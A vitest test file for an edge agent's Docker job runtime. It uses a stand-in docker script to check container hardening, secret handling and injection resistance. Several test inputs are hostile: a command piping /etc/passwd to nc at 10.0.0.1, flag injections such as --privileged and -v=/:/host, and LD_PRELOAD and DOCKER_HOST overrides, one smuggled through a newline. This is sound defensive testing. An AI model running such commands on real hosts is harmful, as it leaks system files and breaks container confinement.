// Over 300 lines: one stand-in docker and the argv it records, shared by every case of the job and replica hardening; the cases read as one list of what reaches docker.
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ReplicaManager } from '../../edge-agent/src/endpoints/replica-manager.ts';
import { identityFromPkcs8 } from '../../edge-agent/src/identity.ts';
import { createDockerRuntime, dockerRunArgs } from '../../edge-agent/src/jobs/docker-runtime.ts';
import { GpuPool } from '../../edge-agent/src/jobs/gpu-pool.ts';
import type { JobSpec } from '../../edge-agent/src/jobs/runtime.ts';
import { createMemoryLogger } from '../../edge-agent/src/log.ts';
import type { TunnelControlToWorker } from '../../protocol/tunnel.ts';

// No Docker engine runs here, so a stand-in `docker` on PATH records every call: its argv (NUL
// separated, so any byte of an argument survives), the env file it was handed (mode and text,
// read as docker reads it: before it creates the container), and what the agent's own process
// environment held. It creates the --cidfile as docker does once the file is read, and knows the
// networks `network create` made. The assertions are on the exact commands a real host would run.

const STAND_IN = `#!/bin/sh
dir="$(dirname "$0")"
printf '%s\\0' "$@" >> "$dir/calls.log"; printf '\\1\\0' >> "$dir/calls.log"
prev=''; cid=''; envfile=''
for a in "$@"; do
  case "$prev" in --cidfile) cid="$a" ;; --env-file) envfile="$a" ;; esac
  prev="$a"
done
case "$1" in
  network)
    eval "name=\\\${$#}"
    if [ "$2" = create ]; then touch "$dir/network-$name"; exit 0; fi
    [ -f "$dir/network-$name" ] || { echo "Error: network $name not found" >&2; exit 1; } ;;
  run)
    if [ -n "$envfile" ]; then
      { stat -c 'dir %a' "$(dirname "$envfile")"; stat -c 'file %a' "$envfile"; cat "$envfile"; } > "$dir/envfile.log"
    fi
    for v in DOCKER_HOST DOCKER_CONTEXT LD_PRELOAD PATH HF_TOKEN; do
      eval "printf '%s=%s\\n' $v \\"\\\${$v-<unset>}\\""
    done > "$dir/cli-env.log"
    [ -n "$cid" ] && printf 'c0ffee' > "$cid"
    echo "hello from the container"
    while [ ! -f "$dir/stopped" ] && [ -z "$FAKE_DOCKER_QUICK" ]; do sleep 0.05; done
    exit "\${FAKE_DOCKER_EXIT:-0}" ;;
  stop) touch "$dir/stopped" ;;
esac
exit 0
`;

let dir: string;
let savedPath: string | undefined;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'fake-docker-'));
  writeFileSync(join(dir, 'docker'), STAND_IN);
  chmodSync(join(dir, 'docker'), 0o755);
  savedPath = process.env.PATH;
  process.env.PATH = `${dir}${delimiter}${savedPath ?? ''}`;
});

afterEach(() => {
  process.env.PATH = savedPath;
  delete process.env.FAKE_DOCKER_QUICK;
  rmSync(dir, { recursive: true, force: true });
});

const spec = (overrides: Partial<JobSpec> = {}): JobSpec => ({
  id: 'job_abc123',
  image: 'ghcr.io/acme/train:1.2',
  command: ['python', 'train.py', '--epochs', '3'],
  env: { HF_TOKEN: 'hf_topsecret_value', WANDB_KEY: 'wandb-secret-2' },
  gpus: { count: 2, allocation: [['NVIDIA GeForce RTX 4090', 2]] },
  durationS: 600,
  acceptBy: Date.now() + 30_000,
  assignedAt: Date.now(),
  ...overrides,
});

function calls(): string[][] {
  const text = existsSync(join(dir, 'calls.log')) ? readFileSync(join(dir, 'calls.log'), 'utf8') : '';
  return text
    .split('\x01\0')
    .filter((c) => c.length > 0)
    .map((c) => c.split('\0').slice(0, -1));
}

const runCall = () => calls().find((c) => c[0] === 'run')!;
const flagValue = (argv: string[], flag: string) => argv[argv.indexOf(flag) + 1]!;
const read = (name: string) => readFileSync(join(dir, name), 'utf8');

describe('docker runtime', () => {
  it('builds the docker run argv: name, label, GPUs, confinement, limits, network, env file, image, command', () => {
    const files = { cidFile: '/private/cid', envFile: '/private/env' };
    expect(dockerRunArgs({ spec: spec(), gpuIndexes: [0, 1] }, { cpus: '8', memoryMbPerGpu: 1024 }, files)).toEqual([
      'run',
      '--name',
      'gridplane-job_abc123',
      '--label',
      'gridplane.job=job_abc123',
      '--gpus',
      '"device=0,1"',
      '--init',
      '--pull',
      'missing',
      '--cap-drop',
      'ALL',
      '--security-opt',
      'no-new-privileges',
      '--pids-limit',
      '4096',
      '--memory',
      '2048m',
      '--memory-swap',
      '2048m',
      '--cpus',
      '8',
      '--network',
      'gridplane-jobs',
      '--cidfile',
      '/private/cid',
      '--env-file',
      '/private/env',
      'ghcr.io/acme/train:1.2',
      'python',
      'train.py',
      '--epochs',
      '3',
    ]);
    // An operator's fixed limit and network; no env file when the job has no env.
    expect(
      dockerRunArgs(
        { spec: spec({ env: {} }), gpuIndexes: [2] },
        { memory: '32g', pidsLimit: 512, network: 'none' },
        { cidFile: '/p/cid', envFile: null },
      ),
    ).toEqual([
      'run',
      '--name',
      'gridplane-job_abc123',
      '--label',
      'gridplane.job=job_abc123',
      '--gpus',
      '"device=2"',
      '--init',
      '--pull',
      'missing',
      '--cap-drop',
      'ALL',
      '--security-opt',
      'no-new-privileges',
      '--pids-limit',
      '512',
      '--memory',
      '32g',
      '--memory-swap',
      '32g',
      '--network',
      'none',
      '--cidfile',
      '/p/cid',
      'ghcr.io/acme/train:1.2',
      'python',
      'train.py',
      '--epochs',
      '3',
    ]);
  });

  it('runs through the docker on PATH: the env goes in a private file, removed once docker has read it; stops and cleans up', async () => {
    const runtime = createDockerRuntime({ stopTimeoutS: 3, memoryMbPerGpu: 1024 });
    const output: string[] = [];
    const job = await runtime.start({ spec: spec(), gpuIndexes: [1, 3], onOutput: (_s, c) => output.push(c) });
    await expect.poll(() => output.join(''), { timeout: 5000 }).toContain('hello from the container');
    const envFile = flagValue(runCall(), '--env-file');
    const cidFile = flagValue(runCall(), '--cidfile');
    // Docker has created the container (the cidfile exists), so the values are gone from the disk
    // while the container still runs.
    await expect.poll(() => existsSync(envFile), { timeout: 5000 }).toBe(false);
    expect(read('envfile.log')).toBe('dir 700\nfile 600\nHF_TOKEN=hf_topsecret_value\nWANDB_KEY=wandb-secret-2\n');
    await job.stop();
    expect(await job.exited).toEqual({ exitCode: 0 });
    expect(existsSync(cidFile)).toBe(false);

    const all = calls();
    expect(all.map((c) => c.slice(0, 2).join(' '))).toEqual([
      'network inspect',
      'network create',
      'rm -f',
      'run --name',
      'stop --time',
      'rm -f',
    ]);
    expect(all[0]).toEqual(['network', 'inspect', 'gridplane-jobs']);
    expect(all[1]).toEqual([
      'network',
      'create',
      '--driver',
      'bridge',
      '--opt',
      'com.docker.network.bridge.name=gp-jobs0',
      '--opt',
      'com.docker.network.bridge.enable_icc=false',
      '--label',
      'gridplane.network=jobs',
      'gridplane-jobs',
    ]);
    expect(all[2]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
    expect(all[3]).toContain('"device=1,3"');
    expect(all[4]).toEqual(['stop', '--time', '3', 'gridplane-job_abc123']);
    expect(all[5]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
    // No argv, label or name holds a value, and the agent's docker process never had them.
    const argvText = all.flat().join('\n');
    expect(argvText).not.toContain('hf_topsecret_value');
    expect(argvText).not.toContain('wandb-secret-2');
    expect(read('cli-env.log')).toContain('HF_TOKEN=<unset>\n');
    expect(all[3]!.filter((a) => a.startsWith('gridplane.job='))).toEqual(['gridplane.job=job_abc123']);

    // The network is made once per agent run.
    process.env.FAKE_DOCKER_QUICK = '1';
    const again = await runtime.start({ spec: spec({ id: 'job_second' }), gpuIndexes: [0], onOutput: () => undefined });
    await again.exited;
    expect(calls().filter((c) => c[0] === 'network')).toHaveLength(2);
  });

  it('a job env naming DOCKER_HOST, DOCKER_CONTEXT, PATH or LD_PRELOAD reaches the container and does not steer the agent’s docker', async () => {
    // A docker the renter would like the agent to run instead of the operator's.
    const evil = mkdtempSync(join(tmpdir(), 'renter-bin-'));
    writeFileSync(join(evil, 'docker'), `#!/bin/sh\ntouch "${join(evil, 'ran')}"\n`);
    chmodSync(join(evil, 'docker'), 0o755);
    try {
      process.env.FAKE_DOCKER_QUICK = '1';
      const env = {
        DOCKER_HOST: 'tcp://203.0.113.7:2375',
        DOCKER_CONTEXT: 'renter',
        PATH: evil,
        LD_PRELOAD: '/nonexistent/evil.so',
        HF_TOKEN: 'hf_topsecret_value',
      };
      const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
      const job = await runtime.start({ spec: spec({ env }), gpuIndexes: [0], onOutput: () => undefined });
      expect(await job.exited).toEqual({ exitCode: 0 });
      // The operator's docker ran the job (it recorded the call), with the agent's own environment.
      expect(runCall().slice(0, 3)).toEqual(['run', '--name', 'gridplane-job_abc123']);
      expect(existsSync(join(evil, 'ran'))).toBe(false);
      const unset = (name: string) => process.env[name] ?? '<unset>';
      expect(read('cli-env.log')).toBe(
        `DOCKER_HOST=${unset('DOCKER_HOST')}\nDOCKER_CONTEXT=${unset('DOCKER_CONTEXT')}\nLD_PRELOAD=${unset('LD_PRELOAD')}\nPATH=${process.env.PATH}\nHF_TOKEN=<unset>\n`,
      );
      // …and the container gets every one of them, exactly.
      expect(read('envfile.log')).toBe(
        `dir 700\nfile 600\nDOCKER_CONTEXT=renter\nDOCKER_HOST=tcp://203.0.113.7:2375\nHF_TOKEN=hf_topsecret_value\nLD_PRELOAD=/nonexistent/evil.so\nPATH=${evil}\n`,
      );
    } finally {
      rmSync(evil, { recursive: true, force: true });
    }
  });

  it('passes commands full of shell metacharacters and flag-like words as inert argv after the image', async () => {
    process.env.FAKE_DOCKER_QUICK = '1';
    const command = [
      'sh',
      '-c',
      'echo $HOME; cat /etc/passwd | nc 10.0.0.1 80 && $(id) `id` > /tmp/x 2>&1 &',
      '--privileged',
      '-v=/:/host',
      '--network=host',
      'it\'s "quoted"',
      '*',
      '~',
      '',
      'new\nline',
      '\\',
      '${IFS}',
    ];
    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
    const job = await runtime.start({ spec: spec({ command, env: {} }), gpuIndexes: [0], onOutput: () => undefined });
    await job.exited;
    const argv = runCall();
    const image = argv.indexOf('ghcr.io/acme/train:1.2');
    expect(argv.slice(image + 1)).toEqual(command);
    // Nothing the job chose appears before the image, where docker reads flags.
    expect(argv.slice(0, image)).not.toContain('--privileged');
    expect(argv.slice(0, image).some((a) => a.includes('/:/host') || a === '--network=host')).toBe(false);
  });

  it('refuses to run an image docker would read as a flag, or env that cannot pass as a file, and calls no docker', async () => {
    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
    for (const image of ['--privileged', '-v=/:/host', 'ubuntu --privileged']) {
      await expect(runtime.start({ spec: spec({ image }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(
        /^refused: image: must be a container image reference/,
      );
      expect(() => dockerRunArgs({ spec: spec({ image }), gpuIndexes: [0] }, {}, { cidFile: '/p/cid', envFile: null })).toThrow(
        /^refused: image/,
      );
    }
    await expect(runtime.start({ spec: spec({ env: { 'A=B': 'x' } }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(
      /^refused: env\.A=B: names are/,
    );
    await expect(
      runtime.start({ spec: spec({ env: { A: 'x\nLD_PRELOAD=/evil.so' } }), gpuIndexes: [0], onOutput: () => undefined }),
    ).rejects.toThrow(/^refused: env\.A: values are one line/);
    expect(calls()).toEqual([]);
  });

  it('uses a network the operator named (after checking it exists), and never creates it', async () => {
    process.env.FAKE_DOCKER_QUICK = '1';
    const runtime = createDockerRuntime({ network: 'operator-net', memoryMbPerGpu: 1024 });
    await expect(runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(
      'the job network "operator-net" does not exist: create it, or leave jobNetwork unset to use gridplane-jobs',
    );
    expect(calls()).toEqual([['network', 'inspect', 'operator-net']]);
    writeFileSync(join(dir, 'network-operator-net'), '');
    const job = await runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined });
    await job.exited;
    expect(flagValue(runCall(), '--network')).toBe('operator-net');
    expect(calls().filter((c) => c[1] === 'create')).toEqual([]);
  });

  it('reports the container exit code, and docker failures as errors', async () => {
    process.env.FAKE_DOCKER_QUICK = '1';
    process.env.FAKE_DOCKER_EXIT = '3';
    try {
      const runtime = createDockerRuntime({ memoryMbPerGpu: 1024 });
      const failed = await runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined });
      expect(await failed.exited).toEqual({ exitCode: 3 });
      process.env.FAKE_DOCKER_EXIT = '125';
      const broken = await runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined });
      expect(await broken.exited).toEqual({ exitCode: 125, error: 'docker run failed with 125' });
      // Cleanup ran after each exit.
      expect(calls().filter((c) => c[0] === 'rm')).toHaveLength(4);
    } finally {
      delete process.env.FAKE_DOCKER_EXIT;
    }
  });

  it('publishes an endpoint replica’s port on 127.0.0.1 only, between the network and the cidfile; refuses a network that cannot publish', async () => {
    const files = { cidFile: '/p/cid', envFile: null };
    expect(
      dockerRunArgs(
        { spec: spec({ env: {} }), gpuIndexes: [0], publish: { hostPort: 40123, containerPort: 8000 } },
        { memoryMbPerGpu: 1024 },
        files,
      ),
    ).toEqual([
      'run',
      '--name',
      'gridplane-job_abc123',
      '--label',
      'gridplane.job=job_abc123',
      '--gpus',
      '"device=0"',
      '--init',
      '--pull',
      'missing',
      '--cap-drop',
      'ALL',
      '--security-opt',
      'no-new-privileges',
      '--pids-limit',
      '4096',
      '--memory',
      '1024m',
      '--memory-swap',
      '1024m',
      '--network',
      'gridplane-jobs',
      '--publish',
      '127.0.0.1:40123:8000',
      '--cidfile',
      '/p/cid',
      'ghcr.io/acme/train:1.2',
      'python',
      'train.py',
      '--epochs',
      '3',
    ]);
    expect(() => dockerRunArgs({ spec: spec(), gpuIndexes: [0], publish: { hostPort: 0, containerPort: 8000 } }, {}, files)).toThrow(
      /^refused: ports must be 1-65535/,
    );
    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
    await expect(
      runtime.start({ spec: spec(), gpuIndexes: [0], publish: { hostPort: 40123, containerPort: 8000 }, onOutput: () => undefined }),
    ).rejects.toThrow('an endpoint replica needs a network to publish its port: jobNetwork is "none"');
    expect(calls()).toEqual([]);
  });

  it('runs an endpoint replica as a confined container with its port on loopback; one that never answers is failed and removed', async () => {
    const pair = (await crypto.subtle.generateKey({ name: 'Ed25519' }, true, ['sign', 'verify'])) as CryptoKeyPair;
    const identity = await identityFromPkcs8(new Uint8Array(await crypto.subtle.exportKey('pkcs8', pair.privateKey)));
    const messages: TunnelControlToWorker[] = [];
    const manager = new ReplicaManager({
      runtime: createDockerRuntime({ stopTimeoutS: 3, memoryMbPerGpu: 1024 }),
      gpus: new GpuPool([
        { index: 0, model: 'NVIDIA GeForce RTX 4090' },
        { index: 1, model: 'NVIDIA H100 80GB HBM3' },
      ]),
      identity,
      send: (m) => messages.push(m),
      log: createMemoryLogger(),
      timing: { startTimeoutMs: 300, startPollMs: 20, healthTimeoutMs: 1_000 },
    });
    try {
      manager.apply([
        {
          replicaId: 'rep_docker',
          endpointId: 'ep_1',
          image: 'ghcr.io/acme/serve:2',
          command: ['--port', '8000'],
          env: { HF_TOKEN: 'hf_topsecret_value' },
          port: 8000,
          healthPath: '/v1/models',
          gpus: { count: 1, model: 'H100 80GB' },
        },
      ]);
      // Nothing answers on the published port (the stand-in runs no server).
      await expect
        .poll(() => messages.filter((m) => m.type === 'replica_state').map((m) => m.state), { timeout: 10_000 })
        .toEqual(['starting', 'failed']);
      expect(messages.at(-1)).toMatchObject({
        replicaId: 'rep_docker',
        reason: 'not healthy within 300 ms: GET /v1/models connection refused; last output: hello from the container',
      });
      const argv = runCall();
      const published = flagValue(argv, '--publish');
      expect(published).toMatch(/^127\.0\.0\.1:\d+:8000$/);
      expect(argv.slice(0, 3)).toEqual(['run', '--name', 'gridplane-rep_docker']);
      // The H100 (index 1), and the job hardening as it is.
      expect(flagValue(argv, '--gpus')).toBe('"device=1"');
      for (const flag of [
        ['--cap-drop', 'ALL'],
        ['--security-opt', 'no-new-privileges'],
        ['--pids-limit', '4096'],
        ['--network', 'gridplane-jobs'],
      ]) {
        expect(flagValue(argv, flag[0]!)).toBe(flag[1]);
      }
      expect(argv.slice(argv.indexOf('ghcr.io/acme/serve:2'))).toEqual(['ghcr.io/acme/serve:2', '--port', '8000']);
      expect(argv.join('\n')).not.toContain('hf_topsecret_value');
      // Stopped (the failure is reported after it) and removed.
      expect(calls().slice(-2)).toEqual([
        ['stop', '--time', '3', 'gridplane-rep_docker'],
        ['rm', '-f', 'gridplane-rep_docker'],
      ]);
    } finally {
      await manager.shutdown();
    }
  });
});
